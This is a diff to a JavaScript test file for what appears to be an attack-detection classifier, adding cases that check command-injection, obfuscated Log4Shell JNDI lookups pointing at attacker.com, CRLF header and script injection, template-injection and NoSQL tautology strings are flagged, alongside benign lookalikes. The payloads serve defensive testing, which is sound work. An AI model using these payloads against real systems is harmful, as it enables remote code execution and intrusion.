@@ -892,3 +892,14 @@ t.test('rce (twelfth round): an echo of a marker, a ping given a host name, the 
   for (const p of ['; echo DOMINATOR_CMD_EXEC', '| echo DOMINATOR_CMD_EXEC', '$(echo DOMINATOR_CMD_EXEC)', '127.0.0.1 && ping google.com', '127.0.0.1 | ping google.com', '; find / -perm -4000 2>/dev/null', '| ping \u2013n 30 127.0.0.1 |']) t.ok(q(p).includes('rce'), p)
   for (const p of ['Tom & echo chamber', 'echo DOMINATOR_CMD_EXEC', 'ping google.com', 'Tom & ping google.com', 'find / and replace', 'pages 10 \u2013 12']) t.notOk(q(p).includes('rce'), p)
 })
+
+t.test('jndi, crlf, ssti and nosqli (twelfth round): letters spelt one lookup at a time, status lines and markup after a blank line, a function called, a tautology with one `=`', async (t) => {
+  for (const p of ['${${lookup:l}${lookup:d}${lookup:a}${lookup:p}://attacker.com:1389/a}', '${${date:l}da${date:p}://attacker.com/z}', '${${date:Y}${date:m}${date:d}:ldap://attacker.com/z}', '${j${:(K)n}di:ldap://attacker.com:1389/a}', '${${lower:l}${lower:d}ap://OAST/a}']) t.ok(q(p).includes('jndi'), p)
+  for (const p of ['${date:Y}-${date:m}', '${a:b}', 'ldap://directory.example.com/', '${lower:x}${upper:y}']) t.notOk(q(p).includes('jndi'), p)
+  for (const p of ['%0d%0aHTTP/1.1 200 OK', '\\r\\nExpires: Thu, 01 Jan 1970 00:00:00 GMT', '%0d%0a%0d%0a<details open ontoggle=alert(1)>', '%0d%0a%0d%0a<iframe src=javascript:alert(1)>']) t.ok(q(p, 'lang').includes('crlf'), p)
+  for (const p of ['Hello\nServer Components are new', 'a\n\n<b>bold</b>', 'line one\nExpires soon']) t.notOk(q(p, 'lang').includes('crlf'), p)
+  for (const p of ['{{include("index")}}', '{{dump(app)}}']) t.ok(q(p).includes('ssti'), p)
+  for (const p of ['{{name}}', 'call {{ fn }} later']) t.notOk(q(p).includes('ssti'), p)
+  for (const p of ['admin" || "1"="1', 'admin") || ("1"="1"--', "admin')) || (('1'='1"]) t.ok(q(p).includes('nosqli'), p)
+  for (const p of ['a || b = c', 'x || (y = y2)']) t.notOk(q(p).includes('nosqli'), p)
+})
